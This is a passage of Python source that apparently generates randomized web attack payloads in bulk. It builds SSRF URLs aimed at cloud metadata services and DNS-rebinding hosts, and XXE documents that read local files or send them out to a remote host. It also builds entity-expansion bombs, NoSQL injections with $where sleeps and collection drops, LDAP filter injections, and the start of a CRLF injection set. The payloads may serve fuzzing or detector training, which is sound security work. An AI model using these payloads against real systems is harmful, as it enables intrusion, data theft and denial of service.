    "http://§internal_any§%0d%0aHost:%20§trusted§", "http://§internal_any§:§port§%2523@§trusted§", "http://§internal_any§;@§trusted§",
    "http://§w§:§w§@§internal_any§:§port§/", "https://§trusted§.§evil§/"])
_def("s_rebind", [
    "http://§hexip§.§hexip§.rbndr.us/", "http://§hexip§.§hexip§.rbndr.us§int_path§", "http://make-§ipdash§-rebind-127-0-0-1-rr.1u.ms/",
    "http://make-169-254-169-254-rebind-§ipdash§-rr.1u.ms/latest/meta-data/", "http://§ipdash§.nip.io§int_path§",
    "http://§rand§.§evil§:§port§/latest/meta-data/", "http://A.§ip§.1time.127.0.0.1.forever.rebind.network/",
    "http://7f000001.§hexip§.rbndr.us:§port§/", "http://a9fea9fe.§hexip§.rbndr.us/latest/meta-data/", "http://§rand§.127.0.0.1.sslip.io/"])
_def("hexip", lambda rng: "%08x" % rng.choice((0x7F000001, 0xA9FEA9FE, rng.getrandbits(32), 0x0A000001, 0xC0A80001)))
_def("ipdash", lambda rng: _pub_ip(rng).replace(".", "-"))
_def("s_oob", ["http://§rand§.§oobdom§/", "https://§rand§.§oobdom§/§w§", "//§rand§.§oobdom§", "http://§ip§:§port§/§w§",
               "http://§evil§/ssrf?x=§w§", "https://§evil§/§rand§.png", "http://§ip§/", "http://§rand§.§oobdom§:§port§/",
               "https://§evil§:§port§/callback", "http://§evil§/§w§?id=§N§"])
_def("oobdom", lambda rng: rng.choice(_OOB))
_def("ssrf", [(14, "§s_meta§"), (14, "§s_local§"), (9, "§s_internal§"), (12, "§s_proto§"), (9, "§s_confuse§"), (3, "§s_rebind§"),
              (4, "§s_oob§")])


# ---------------------------------------------------------------------------------------------
# XML external entities
# ---------------------------------------------------------------------------------------------

_XML_NAMES = ("root", "foo", "data", "user", "users", "request", "search", "product", "stockCheck", "order", "message",
              "note", "item", "query", "comment", "payload", "xml", "doc", "contact", "login", "creds", "profile",
              "config", "entry", "catalog", "book", "employee", "invoice", "transaction", "upload", "r", "a", "test")
_XML_LEAVES = ("name", "username", "email", "id", "productId", "storeId", "title", "description", "value", "text",
               "password", "address", "city", "q", "body", "content", "comment", "message", "price", "lastname")
_XML_ENTITIES = ("xxe", "x", "ent", "file", "data", "e", "foo", "bar", "test", "payload", "exfil", "xx", "a", "b",
                 "ext", "internal", "pwn", "read", "secret", "sp", "remote", "dtd", "param1", "all")
_def("xxe_uri", [
    (8, "file:///§unix_file§"), (2, "file:///c:/§win_file§"), (1, "file://c:\\§win_file_bs§"), (2, "/§unix_file§"),
    (3, "php://filter/convert.base64-encode/resource=§wrap_target§"), (3, "http://§host§/§w§"), (1, "https://§host§/§rand§.xml"),
    (1, "expect://§expectcmd§"), (1, "ftp://§host§:§port§/§w§"), (1, "jar:http://§host§/§w§.jar!/§w§"),
    (1, "netdoc:///§unix_file§"), (1, "gopher://§lo_any§:§port§/_§w§"), (1, "http://169.254.169.254§aws_path§"),
    (1, "file:///dev/random"), (1, "file:///proc/self/cwd/§appfile§"), (1, "file:///"), (1, "http://§lo_host§§int_port§§int_path§"),
    (1, "file:///etc/"), (1, "file:///c:/boot.ini"), (1, "file:///var/www/html/§appfile§"), (1, "http://§ip§:§port§/")])
_def("xxe_remote", ["http://§host§/§w§.dtd", "https://§host§/§rand§.dtd", "http://§ip§:§port§/§w§.dtd", "ftp://§host§/§w§.dtd",
                    "http://§host§/", "https://§host§/xxe.dtd", "http://§ip§/evil.dtd"])
_def("local_dtd", ["/usr/share/xml/fontconfig/fonts.dtd", "/usr/share/yelp/dtd/docbookx.dtd",
                   "/usr/share/xml/scrollkeeper/dtds/scrollkeeper-omf.dtd", "/usr/share/sgml/docbook/xml-dtd-4.5/docbookx.dtd",
                   "/usr/share/xml/docbook/schema/dtd/4.5/docbookx.dtd", "/opt/IBM/WebSphere/AppServer/properties/sip-app_1_0.dtd",
                   "C:\\Windows\\System32\\wbem\\xml\\cim20.dtd", "/usr/lib64/erlang/lib/docbuilder-0.9.8.11/dtd/application.dtd",
                   "/usr/share/java/jsp-api-2.2.jar!/javax/servlet/jsp/resources/jspxml.dtd", "/usr/local/tomcat/lib/jsp-api.jar!/javax/servlet/jsp/resources/jspxml.dtd"])


class _Xml:
    """Formatting choices of one XML document."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.nl = rng.choice(("", "", "\n", "\n", " ", "\r\n"))
        self.ind = rng.choice(("", "  ", "\t", "    ")) if self.nl in ("\n", "\r\n") else ""
        self.q = rng.choice(('"', '"', '"', "'"))
        self.root = rng.choice(_XML_NAMES)
        self.ent = rng.choice(_XML_ENTITIES) if rng.random() < 0.8 else _letters(rng, 2, 6)

    def decl(self) -> str:
        r = self.rng.random()
        if r < 0.25:
            return ""
        q = self.q
        forms = (f"<?xml version={q}1.0{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-8{q}?>",
                 f"<?xml version={q}1.0{q} encoding={q}ISO-8859-1{q}?>", f"<?xml version={q}1.0{q} standalone={q}no{q}?>",
                 f"<?xml version={q}1.0{q} encoding={q}utf-8{q} standalone={q}yes{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-16{q}?>",
                 f"<?xml version={q}1.1{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-7{q}?>")
        return self.rng.choice(forms) + self.nl

    def body(self, inner: str, root: str | None = None) -> str:
        """The root element with a few ordinary leaves around the one that carries `inner`."""
        rng, nl, ind = self.rng, self.nl, self.ind
        root = root or self.root
        leaves = rng.sample(_XML_LEAVES, rng.randint(1, 3))
        carrier = rng.randrange(len(leaves))
        lines = []
        for i, leaf in enumerate(leaves):
            text = inner if i == carrier else rng.choice((_word(rng), str(rng.randint(1, 9999)), f"{_word(rng)}@{_trusted(rng)}"))
            lines.append(f"{ind}<{leaf}>{text}</{leaf}>")
        if rng.random() < 0.25:
            return f"<{root}>{inner}</{root}>"
        return f"<{root}>{nl}" + nl.join(lines) + f"{nl}</{root}>"

    def entity(self, name: str, uri: str, param: bool = False) -> str:
        q = self.q if self.q not in uri else ('"' if self.q == "'" else "'")
        pct = "% " if param else ""
        if not param and self.rng.random() < 0.12:
            return f"<!ENTITY {name} PUBLIC {q}-//{self.rng.choice(('W3C', 'OASIS', _word(self.rng).upper()))}//TEXT {_word(self.rng)}//EN{q} {q}{uri}{q}>"
        return f"<!ENTITY {pct}{name} SYSTEM {q}{uri}{q}>"


def _xxe_classic(rng: random.Random) -> str:
    x = _Xml(rng)
    ents = [x.entity(x.ent, _s("xxe_uri", rng))]
    if rng.random() < 0.2:
        ents.insert(0, f"<!ELEMENT {x.root} ANY>")
    refs = f"&{x.ent};"
    if rng.random() < 0.15:
        second = x.ent + str(rng.randint(2, 9))
        ents.append(x.entity(second, _s("xxe_uri", rng)))
        refs += f"&{second};"
    dt = f"<!DOCTYPE {x.root} [{x.nl}" + x.nl.join(x.ind + e for e in ents) + f"{x.nl}]>{x.nl}"
    return x.decl() + dt + x.body(refs)


def _xxe_param(rng: random.Random) -> str:
    x = _Xml(rng)
    p1, p2, p3 = rng.sample(_XML_ENTITIES, 3)
    kind = rng.randrange(5)
    host, q = _host(rng), x.q
    if kind == 0:
        inner = x.entity(p1, _s("xxe_remote", rng), param=True) + f"{x.nl}%{p1};"
    elif kind == 1:
        other = "'" if q == '"' else '"'
        exfil = rng.choice((f"http://{host}/?{_word(rng)}=%{p1};", f"ftp://{host}:{_s('port', rng)}/%{p1};",
                            f"http://{host}/%{p1};", f"http://{_pub_ip(rng)}:{_s('port', rng)}/?d=%{p1};"))
        inner = (x.entity(p1, _s("xxe_uri", rng), param=True) + x.nl
                 + f"<!ENTITY % {p2} {q}<!ENTITY &#x25; {p3} SYSTEM {other}{exfil}{other}>{q}>" + x.nl + f"%{p2};%{p3};")
    elif kind == 2:
        other = "'" if q == '"' else '"'
        inner = (x.entity(p1, "file:///" + _s("unix_file", rng), param=True) + x.nl
                 + f"<!ENTITY % {p2} {q}<!ENTITY &#x25; {p3} SYSTEM {other}file:///{_word(rng)}/%{p1};{other}>{q}>" + x.nl
                 + f"%{p2};%{p3};")
    elif kind == 3:
        inner = (f"<!ENTITY % {p1} SYSTEM {q}file://{_s('local_dtd', rng)}{q}>" + x.nl
                 + f"<!ENTITY % {rng.choice(('ISOamso', 'constant', 'expr', 'condition', 'custom_entity', 'ISOamsa'))} "
                 + f"'<!ENTITY &#x25; {p2} SYSTEM \"file:///{_s('unix_file', rng)}\"><!ENTITY &#x25; {p3} \"<!ENTITY &#x26;#x25; e SYSTEM &#x27;file:///x/&#x25;{p2};&#x27;>\">&#x25;{p3};&#x25;e;'>"
                 + x.nl + f"%{p1};")
    else:
        inner = (f"<!ENTITY % start {q}<![CDATA[{q}>" + x.nl + x.entity(p1, "file:///" + _s("unix_file", rng), param=True) + x.nl
                 + f"<!ENTITY % end {q}]]>{q}>" + x.nl + x.entity(p2, _s("xxe_remote", rng), param=True) + x.nl + f"%{p2};")
    body = x.body(f"&{rng.choice((p3, 'all', 'e', x.ent))};") if rng.random() < 0.5 else f"<{x.root}>{_word(rng)}</{x.root}>"
    return x.decl() + f"<!DOCTYPE {x.root} [{x.nl}{inner}{x.nl}]>{x.nl}" + body


def _xxe_bomb(rng: random.Random) -> str:
    x = _Xml(rng)
    prefix = rng.choice(("lol", "a", "x", "ha", "boom", "e", "z", "b", _letters(rng, 1, 3)))
    depth, fan = rng.randint(3, 9), rng.randint(3, 10)
    if rng.random() < 0.25:  # quadratic blowup: one big entity referenced many times
        big = _word(rng) * rng.randint(20, 120)
        refs = f"&{prefix};" * rng.randint(20, 150)
        return (x.decl() + f"<!DOCTYPE {x.root} [<!ENTITY {prefix} \"{big[:1500]}\">]>{x.nl}<{x.root}>{refs}</{x.root}>")[:MAX_CHARS]
    ents = [f"<!ENTITY {prefix}0 \"{rng.choice((prefix, _word(rng), 'lol', 'ha'))}\">"]
    for level in range(1, depth + 1):
        ents.append(f"<!ENTITY {prefix}{level} \"" + f"&{prefix}{level - 1};" * fan + "\">")
    if rng.random() < 0.3:
        ents.insert(0, f"<!ELEMENT {x.root} (#PCDATA)>")
    return x.decl() + f"<!DOCTYPE {x.root} [{x.nl}" + x.nl.join(x.ind + e for e in ents) + f"{x.nl}]>{x.nl}<{x.root}>&{prefix}{depth};</{x.root}>"


def _xxe_xinclude(rng: random.Random) -> str:
    x = _Xml(rng)
    ns = rng.choice(("xi", "xi", "x", "inc", "xinclude"))
    parse = rng.choice((' parse="text"', ' parse="text"', " parse='text'", "", ' parse="xml"'))
    inc = f"<{ns}:include xmlns:{ns}=\"http://www.w3.org/2001/XInclude\"{parse} href=\"{_s('xxe_uri', rng)}\"/>"
    if rng.random() < 0.5:
        return inc
    return x.decl() + x.body(inc)


def _xxe_svg(rng: random.Random) -> str:
    x = _Xml(rng)
    w, h = rng.randint(10, 800), rng.randint(10, 800)
    head = f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"{w}\" height=\"{h}\" version=\"1.1\">"
    kind = rng.randrange(3)
    if kind == 0:
        return (x.decl() + f"<!DOCTYPE svg [{x.entity(x.ent, _s('xxe_uri', rng))}]>{x.nl}" + head
                + f"<text font-size=\"{rng.randint(8, 40)}\" x=\"0\" y=\"{rng.randint(10, 60)}\">&{x.ent};</text></svg>")
    if kind == 1:
        return x.decl() + head + f"<image xlink:href=\"{_s('xxe_uri', rng)}\" width=\"{w}\" height=\"{h}\"/></svg>"
    return (x.decl() + head + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
            + _s("xxe_uri", rng) + "\"/></svg>")


def _xxe_office(rng: random.Random) -> str:
    x = _Xml(rng)
    uri = _s("xxe_uri", rng) if rng.random() < 0.6 else _s("xxe_remote", rng)
    param = rng.random() < 0.3
    ent = x.entity(x.ent, uri, param=param)
    ref = f"%{x.ent};" if param else ""
    use = "" if param else f"&{x.ent};"
    kind = rng.randrange(3)
    decl = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    if kind == 0:
        return (decl + f"<!DOCTYPE w:document [{ent}{ref}]>" + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                + f"<w:body><w:p><w:r><w:t>{use or _word(rng)}</w:t></w:r></w:p></w:body></w:document>")
    if kind == 1:
        return (decl + f"<!DOCTYPE sst [{ent}{ref}]>" + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\">"
                + f"<si><t>{use or _word(rng)}</t></si></sst>")
    return (decl + f"<!DOCTYPE Types [{ent}{ref}]>" + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + f"<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/{use or 'word/document.xml'}\" ContentType=\"text/plain\"/></Types>")


def _xxe_soap(rng: random.Random) -> str:
    x = _Xml(rng)
    ns = rng.choice(("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"))
    pre = rng.choice(("soap", "soapenv", "SOAP-ENV", "s", "env"))
    op = rng.choice(("GetUser", "getProduct", "Login", "SearchRequest", "UpdateProfile", "GetOrderStatus", "getBalance",
                     "CheckStock", "ProcessPayment", "authenticate")) + rng.choice(("", "", "Request"))
    param = rng.choice(_XML_LEAVES)
    dt = f"<!DOCTYPE {pre}:Envelope [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    return (x.decl() + dt + x.nl + f"<{pre}:Envelope xmlns:{pre}=\"{ns}\">{x.nl}<{pre}:Header/>{x.nl}<{pre}:Body>{x.nl}"
            + f"<{op} xmlns=\"http://{_trusted(rng)}/ws\"><{param}>&{x.ent};</{param}></{op}>{x.nl}</{pre}:Body>{x.nl}</{pre}:Envelope>")


def _xxe_feed(rng: random.Random) -> str:
    x = _Xml(rng)
    dt = f"<!DOCTYPE rss [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    if rng.random() < 0.5:
        return (x.decl() + dt + f"<rss version=\"2.0\"><channel><title>{_word(rng)}</title><item><title>&{x.ent};</title>"
                + f"<link>https://{_trusted(rng)}/</link></item></channel></rss>")
    return (x.decl() + dt.replace("rss", "feed") + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>"
            + f"&{x.ent};</title><id>urn:uuid:{_s('uuid', rng)}</id></entry></feed>")


def _xxe_fragment(rng: random.Random) -> str:
    x = _Xml(rng)
    kind = rng.randrange(6)
    if kind == 0:
        return f"<!DOCTYPE {x.root} [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    if kind == 1:
        return x.entity(x.ent, _s("xxe_uri", rng))
    if kind == 2:
        return f"<!DOCTYPE {x.root} SYSTEM \"{_s('xxe_remote', rng)}\">"
    if kind == 3:
        return x.decl() + f"<!DOCTYPE {x.root} SYSTEM \"{_s('xxe_remote', rng)}\">{x.nl}" + x.body(f"&{x.ent};")
    if kind == 4:
        return (x.decl() + f"<!DOCTYPE {x.root} PUBLIC \"-//{_word(rng).upper()}//DTD {_word(rng)}//EN\" \"{_s('xxe_remote', rng)}\">"
                + x.nl + x.body(_word(rng)))
    return f"<!DOCTYPE {x.root} [<!ENTITY % {x.ent} SYSTEM \"{_s('xxe_remote', rng)}\"> %{x.ent};]>"


def _xxe(rng: random.Random) -> str:
    kind = rng.choices((_xxe_classic, _xxe_param, _xxe_bomb, _xxe_xinclude, _xxe_svg, _xxe_office, _xxe_soap, _xxe_feed,
                        _xxe_fragment), weights=(30, 18, 7, 7, 7, 6, 8, 4, 10))[0]
    return kind(rng)


_def("xxe", _xxe)


# ---------------------------------------------------------------------------------------------
# NoSQL (MongoDB-style operator) injection
# ---------------------------------------------------------------------------------------------

_NOSQL_FIELDS = ("username", "user", "login", "email", "password", "pass", "pwd", "token", "id", "_id", "role", "name",
                 "key", "secret", "apiKey", "code", "otp", "uid", "account", "status", "isAdmin", "resetToken", "pin")
_NOSQL_PW_FIELDS = ("password", "pass", "pwd", "passwd", "secret", "token", "pin", "resetToken")


def _nosql_value(rng: random.Random):
    return rng.choice((None, "", 1, -1, _word(rng), False, True, 0, "x", [], "a", rng.randint(1, 999)))


def _nosql_regex(rng: random.Random) -> str:
    return rng.choice(("^a", ".*", f"^{_word(rng)}", f"^{_s('letter', rng)}.*", f"^.{{{rng.randint(1, 12)}}}$", f"{_word(rng)}.*",
                       "^", ".+", f"^{_s('letter', rng)}{_s('letter', rng)}", "[a-z]*", f"^(?=.*{_s('letter', rng)})",
                       f"(.*){{{rng.randint(10, 40)}}}x", "^.*$", f"^{_s('user', rng)}$"))


def _nosql_js(rng: random.Random) -> str:
    f, pw = rng.choice(_NOSQL_FIELDS), rng.choice(_NOSQL_PW_FIELDS)
    ms = rng.choice((1000, 2000, 3000, 5000, 10000, rng.randint(100, 9999)))
    return rng.choice((
        f"sleep({ms})", f"sleep({ms}) || true", f"this.{f} == '{_word(rng)}'", f"this.{pw}.match(/^{_s('letter', rng)}/)",
        "function(){return true;}", "return true", "1 == 1", f"this.{pw}.length > {rng.randint(1, 30)}",
        f"Object.keys(this)[{rng.randint(0, 5)}].match('^{_s('letter', rng)}')", "true", f"this.{f} != null",
        f"this.{pw}[{rng.randint(0, 15)}] == '{_s('letter', rng)}'", f"function(){{var d=new Date();do{{var c=new Date();}}while(c-d<{ms});return true;}}",
        "obj.credits - obj.debits < 0", f"this.{f}.indexOf('{_s('letter', rng)}') == 0", f"tojson(this).match(/{_word(rng)}/)",
        "db.getCollectionNames().length > 0", f"this.{f} == this.{f}", "while(true){}"))


def _nosql_clause(rng: random.Random):
    op = rng.choices(("$ne", "$gt", "$gte", "$lt", "$regex", "$exists", "$in", "$nin", "$not", "$where", "$eq", "$type",
                      "$elemMatch", "$size", "$all", "$expr", "$mod"),
                     weights=(14, 8, 3, 3, 8, 4, 4, 3, 2, 3, 1, 1, 1, 1, 1, 1, 1))[0]
    if op == "$ne":
        return {op: _nosql_value(rng)}
    if op in ("$gt", "$gte"):
        return {op: rng.choice(("", None, 0, "a", -1, " "))}
    if op == "$lt":
        return {op: rng.choice(("~", "z", "\uffff", 99999999))}
    if op == "$regex":
        clause = {op: _nosql_regex(rng)}
        if rng.random() < 0.3:
            clause["$options"] = rng.choice(("i", "si", "m"))
        return clause
    if op == "$exists":
        return {op: rng.choice((True, True, False, 1))}
    if op in ("$in", "$nin", "$all"):
        return {op: rng.sample(("admin", "root", "administrator", "user", _word(rng), _word(rng), "", "superuser"), rng.randint(1, 4))}
    if op == "$not":
        return {op: rng.choice(({"$eq": _word(rng)}, {"$regex": _nosql_regex(rng)}, {"$size": 0}))}
    if op == "$where":
        return {op: _nosql_js(rng)}
    if op == "$eq":
        return {op: _s("user", rng)}
    if op == "$type":
        return {op: rng.choice((2, "string", 1, "object"))}
    if op == "$elemMatch":
        return {op: {rng.choice(_NOSQL_FIELDS): {"$ne": None}}}
    if op == "$size":
        return {op: rng.randint(0, 5)}
    if op == "$mod":
        return {op: [rng.randint(1, 9), 0]}
    return {op: {rng.choice(("$gt", "$eq", "$ne")): [f"${rng.choice(_NOSQL_FIELDS)}", rng.choice((0, "", None))]}}


class _JsonStyle:
    def __init__(self, rng: random.Random, js_keys: bool = False) -> None:
        self.colon = rng.choice((":", ": ", ": ", " : "))
        self.comma = rng.choice((",", ", ", ", "))
        self.pad = rng.choice(("", "", " "))
        self.js = js_keys  # Mongo-shell style: unquoted keys, single-quoted strings
        self.rng = rng

    def dump(self, value) -> str:
        if isinstance(value, dict):
            items = [self.key(k) + self.colon + self.dump(v) for k, v in value.items()]
            return "{" + self.pad + self.comma.join(items) + self.pad + "}"
        if isinstance(value, list):
            return "[" + self.comma.join(self.dump(v) for v in value) + "]"
        if isinstance(value, str) and self.js:
            return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"
        return json.dumps(value, ensure_ascii=False)

    def key(self, key: str) -> str:
        if self.js and re.fullmatch(r"[$A-Za-z_][\w$]*", key):
            return key
        return json.dumps(key)


def _nosql_json(rng: random.Random) -> str:
    style = _JsonStyle(rng, js_keys=rng.random() < 0.12)
    kind = rng.randrange(8)
    if kind <= 2:
        doc = _nosql_clause(rng)
    elif kind <= 4:
        f1 = rng.choice(("username", "user", "login", "email", "name"))
        doc = {f1: rng.choice((_nosql_clause(rng), _s("user", rng))), rng.choice(_NOSQL_PW_FIELDS): _nosql_clause(rng)}
    elif kind == 5:
        doc = {"$or": [{rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}, {rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}]}
    elif kind == 6:
        doc = {rng.choice(_NOSQL_FIELDS): _s("user", rng), "$where": _nosql_js(rng)}
    else:
        doc = {rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}
        if rng.random() < 0.5:
            doc[rng.choice(_NOSQL_FIELDS)] = _nosql_clause(rng)
    return style.dump(doc)


def _nosql_param(rng: random.Random) -> str:
    def one() -> str:
        field = rng.choice(_NOSQL_FIELDS)
        dollar = "%24" if rng.random() < 0.08 else "$"
        kind = rng.randrange(11)
        if kind <= 3:
            return f"{field}[{dollar}ne]={rng.choice(('', '1', 'x', _word(rng), 'null', 'admin', '0'))}"
        if kind == 4:
            return f"{field}[{dollar}gt]=" + rng.choice(("", " ", "0", "a"))
        if kind == 5:
            return f"{field}[{dollar}regex]={_nosql_regex(rng)}"
        if kind == 6:
            return f"{field}[{dollar}exists]=" + rng.choice(("true", "1", "false"))
        if kind == 7:
            vals = rng.sample(("admin", "root", "administrator", _word(rng), "user"), rng.randint(1, 3))
            return "&".join(f"{field}[{dollar}in][]={v}" for v in vals)
        if kind == 8:
            return f"{field}[{dollar}where]={_nosql_js(rng)}"
        if kind == 9:
            return f"{field}[{dollar}nin][{rng.randint(0, 2)}]={_word(rng)}"
        return f"{rng.choice(('filter', 'where', 'query', 'q', 'search'))}[{field}][{dollar}ne]=" + rng.choice(("null", "", "1"))
    parts = [one() for _ in range(rng.choice((1, 1, 1, 2, 2, 3)))]
    if rng.random() < 0.08:
        parts = [f"[$ne]={rng.choice(('1', '', 'x'))}"]
    return "&".join(parts)


def _nosql_inject(rng: random.Random) -> str:
    f, pw, v = rng.choice(_NOSQL_FIELDS), rng.choice(_NOSQL_PW_FIELDS), _letters(rng, 1, 4)
    ms, w, c = rng.choice((1000, 2000, 5000, 10000, rng.randint(100, 9999))), _word(rng), _s("letter", rng)
    k = rng.choice(("1", "1", str(rng.randint(0, 99)), "'" + c + "'"))
    coll = rng.choice(("users", "accounts", "sessions", "admin", w))
    return rng.choice((
        f"';return true;var {v}='", f"';return(true);var {v}='", f'" || "{k}"=="{k}', f"' || '{w}'=='{w}", f"' || {k}=={k}//",
        f"' || {k}=={k}%00", f"'; while(true){{}}; var {v}='", f"'; sleep({ms}); var {v}='", f"1;sleep({ms})", f"';sleep({ms});'",
        f"this.{pw}.match(/^{c}.*$/)", f"' && this.{pw}.match(/^{c}/)//", f"'||this.{pw}.length>{rng.randint(1, 30)}||'",
        f"function(){{return this.{f}=='{w}'}}", f"0;var d=new Date();do{{var c=new Date();}}while(c-d<{ms})",
        f"'; db.{coll}.drop(); var {v}='", rng.choice(("db.getCollectionNames()", f"db.{coll}.find()", f"db.{coll}.count()",
                                                       f"db.{coll}.findOne()", "db.version()", f"db.{coll}.remove({{}})")),
        f"'; return db.{rng.choice(('users', 'accounts'))}.find(); var {v}='", f"'||Object.keys(this)[{rng.randint(0, 5)}].match(/^{c}/)||'",
        f"' && this.{pw}[{rng.randint(0, 15)}]=='{c}", f"true, $where: '{k} == {k}'", f", $where: '{k} == {k}'", f"$where: 'sleep({ms})'",
        f"1';return this.{f}!=null;var {v}='", f'" && this.{pw}.match(/.*/)//+%00', "'||(function(){return true})()||'",
        f"'||(function(){{var d=new Date();while(new Date()-d<{ms});return true}})()||'", f"{w}' || 'a'=='a", f"{w}'||1||'",
        f"'; emit(this.{pw},1); var {v}='", "';process.exit();'", "{$gt: ''}", f"{{$ne: {rng.choice(('1', 'null', repr(w)))}}}",
        f"{w}'%00", "admin' && this.password!='", f"{{\"$where\": \"sleep({ms})\"}}", f"' || this.{f}.startsWith('{c}') || '"))


def _nosql_agg(rng: random.Random) -> str:
    style = _JsonStyle(rng)
    f, coll = rng.choice(_NOSQL_FIELDS), rng.choice(("users", "accounts", "admin", "sessions", "secrets", "system.users", _word(rng)))
    kind = rng.randrange(7)
    if kind == 0:
        doc = [{"$lookup": {"from": coll, "localField": f, "foreignField": f, "as": _word(rng)}}]
    elif kind == 1:
        doc = [{"$match": {f: {"$ne": None}}}, {"$project": {rng.choice(_NOSQL_PW_FIELDS): 1}}]
    elif kind == 2:
        doc = [{"$unionWith": coll}]
    elif kind == 3:
        doc = {"selector": {"_id": {"$gt": None}}}
    elif kind == 4:
        doc = {"$expr": {"$function": {"body": f"function() {{ {rng.choice(('sleep(' + str(rng.randint(500, 9000)) + ');', 'return true;', 'while(true){}'))} return true; }}", "args": [], "lang": "js"}}}
    elif kind == 5:
        doc = [{"$out": coll}]
    else:
        doc = {"$where": _nosql_js(rng)}
    return style.dump(doc)


_def("nosqli", [(14, "§n_json§"), (10, "§n_param§"), (9, "§n_js§"), (4, "§n_agg§")])
_def("n_json", _nosql_json)
_def("n_param", _nosql_param)
_def("n_js", _nosql_inject)
_def("n_agg", _nosql_agg)


# ---------------------------------------------------------------------------------------------
# LDAP filter injection
# ---------------------------------------------------------------------------------------------

_def("lattr", ["uid", "cn", "sn", "mail", "givenName", "memberOf", "sAMAccountName", "description", "telephoneNumber",
               "ou", "homeDirectory", "loginShell", "userPrincipalName", "displayName", "member", "employeeID", "title",
               "department", "objectClass", "gidNumber", "uidNumber", "objectCategory", "manager", "name"])
_def("lpw", ["userPassword", "userPassword", "password", "unicodePwd", "pwd", "sambaNTPassword", "userpassword"])
_def("lobj", ["*", "user", "person", "inetOrgPerson", "posixAccount", "organizationalPerson", "group", "computer", "top"])
_def("luser", ["admin", "administrator", "root", "§w§", "jdoe", "§user§", "*", "a*", "§letter§*", "manager", "ldap", "svc_§w§",
               "§w§.§w§", "§w§§nn§", "§w§@§trusted§", "§letter§§w§", "*§w§*", "§W§", "§w§*"])
_def("ldc", ["dc=§w§,dc=com", "dc=example,dc=com", "dc=corp,dc=local", "dc=§w§,dc=local", "o=§w§", "dc=ad,dc=§w§,dc=net"])
_def("lclause", [
    (4, "(§lattr§=*)"), (3, "(§lpw§=*)"), (2, "(objectClass=§lobj§)"), (2, "(&)"), (1, "(|(&)"), (2, "(§lpw§=§letter§*)"),
    (2, "(§lattr§=§letter§*)"), "(§lattr§=*§w§*)", "(!(§lattr§=§w§))", "(memberOf=cn=§lgroup§,ou=groups,§ldc§)",
    "(§lattr§:1.2.840.113556.1.4.803:=§N§)", "(cn~=§w§)", "(§lattr§>=§letter§)", "(|(objectClass=*)(uid=*))",
    "(&(objectClass=§lobj§)(§lattr§=*))", "(uid=§luser§)", "(§lattr§=*)(§lattr§=*)", "(objectCategory=person)"])
_def("lgroup", ["admins", "Domain Admins", "administrators", "§w§", "wheel", "sudo", "Enterprise Admins", "it"])
_def("lclose", [(6, ")"), (3, "))"), (1, ")))"), (1, "")])
_def("ltail", [(8, ""), (3, "(|(§lattr§=*"), (2, "(&(§lattr§=*"), (2, "%00"), (1, "\\00"), (1, "(|(objectClass=*"),
               (1, "(§lattr§=*"), (1, "(&(1=0"), (1, "(!(&(1=0")])
_def("ldapi", [
    (24, "§luser§§lclose§§lclause§§ltail§"), (3, "*)(§lattr§=*))(|(§lattr§=*"), (2, "§luser§)(&)"), (2, "§luser§)(|(&)"),
    (2, "§luser§)(!(&(1=0"), (0.5, "*)(|(objectClass=*)"), (2, "§luser§*)"), (0.3, "*()|&'"), (0.2, "*()|%26'"), (0.5, "*))%00"),
    (2, "§luser§)%00"), (2, "§luser§))%00"), (2, "(|(§lattr§=§luser§)(§lattr§=*))"), (2, "(&(§lattr§=*)(|(objectClass=*)))"),
    (2, "(&(uid=§luser§)(§lpw§=*))"), (0.3, "*))(&(objectClass=*"), (0.3, "\\2a)(uid=\\2a"), (1, "*)(!(§lattr§=§w§)"),
    (2, "cn=§luser§,ou=§lou§,§ldc§)(objectClass=*"), (1, "§luser§,§ldc§)(|(cn=*"), (2, "*)(§lpw§=§letter§*"),
    (2, "*)(§lattr§=*§letter§*)"), (1, "§luser§)(|(§lattr§=*§w§*)"), (1, "§luser§)(§lpw§>=§letter§"),
    (2, "§luser§*)((|§lpw§=*)"), (0.5, "*)(uid=*)(|(uid=*"), (0.3, "*|(objectClass=*)"), (1, "§luser§)(cn=*))\\00"),
    (1, "(&(objectClass=*)(§lattr§=*))(|(§lattr§=*"), (1, "*)(&(§lattr§=*)"), (1, "§luser§)(|(mail=*@§trusted§)")])
_def("lou", ["people", "users", "groups", "staff", "admins", "§w§", "employees", "services"])


# ---------------------------------------------------------------------------------------------
# CRLF injection / HTTP response splitting
# ---------------------------------------------------------------------------------------------

_CRLF_NEWLINES = _Pick([(10, "%0d%0a"), (3, "%0D%0A"), (5, "%0a"), (1, "%0d"), (3, "\r\n"), (2, "\n"),
                        (2, "%E5%98%8A%E5%98%8D"), (1, "%e5%98%8a%e5%98%8d"), (2, "%250d%250a"), (1, "%25250d%25250a"),
                        (1, "%u000d%u000a"), (1, "%0d%0a%09"), (1, "%0a%20"), (1, "\\r\\n"), (1, "%c4%8d%c4%8a"),
                        (1, "\u560d\u560a"), (1, "%0A%0D"), (1, "%3f%0d%0a"), (1, "%23%0d%0a"), (1, "%0d%0a%0d%0a")])
_def("crlf_prefix", [(10, ""), (3, "/"), (2, "§w§"), (1, "§n§"), (2, "/§w§"), (2, "http://§trusted§/"), (1, "en"),
